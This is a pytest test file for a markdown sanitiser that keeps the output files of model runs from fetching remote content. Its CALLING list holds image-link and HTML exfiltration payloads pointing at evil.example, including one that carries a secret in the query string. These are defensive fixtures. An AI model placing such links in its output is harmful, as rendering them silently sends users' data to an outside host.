"""What a run leaves to be read fetches nothing when it is shown."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from sonde.api.ask_run import ask
from sonde.api.settings import Settings
from sonde.core.markdown_safety import quiet
from sonde.testing import ScriptedModel

CALLING = [
    "![x](https://evil.example/?secret)",
    "![](//evil.example/a.png)",
    "![a [b] c]( <HTTP://evil.example> )",
    "![two\nlines](http://evil.example)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "![y]\n\n > [y]:\n  https://evil.example/p.png",
    '<img src="https://evil.example">',
    "<IMG\nalt='x' src=//evil.example>",
    "<div style='background: url(x)'>",
    '<img src="&#104;ttps://evil.example">',
]
HARMLESS = [
    "See [the docs](https://docs.example/a) and https://docs.example.",
    "`let v = vec![1, 2];` and `a < b // c`",
    "![a picture](pictures/a.png)",
    "if x <y and [1]: no",
    "| a | b |\n|---|---|\n| [1] | <br> |",
]


@pytest.mark.parametrize("text", CALLING)
def test_a_picture_from_elsewhere_becomes_words(text: str) -> None:
    told = quiet(f"Before. {text}" if not text.startswith("<") else text)

    assert told != text
    assert "evil" in told or "url(" in told
    assert quiet(told) == told


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert quiet(text) == text


@pytest.mark.parametrize("text", ["![" * 100_000, "<a " * 100_000, "[\n" * 100_000, "![](" + " " * 300_000])
def test_it_ends_soon_whatever_the_text(text: str) -> None:
    started = time.process_time()

    quiet(text)

    assert time.process_time() - started < 5


def test_the_files_of_a_run_do_not_call_anybody(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("one\n")
    model = ScriptedModel([f"FINAL({CALLING[0]!r})"])

    run = ask("?", tmp_path / "a.txt", model=model, settings=Settings(), runs_dir=tmp_path / "runs").run_dir

    assert run is not None
    for name in ("answer.md", "summary.md"):
        page = (run / name).read_text()
        assert r"!\[x](https://evil.example/?secret)" in page
        assert "![" not in page
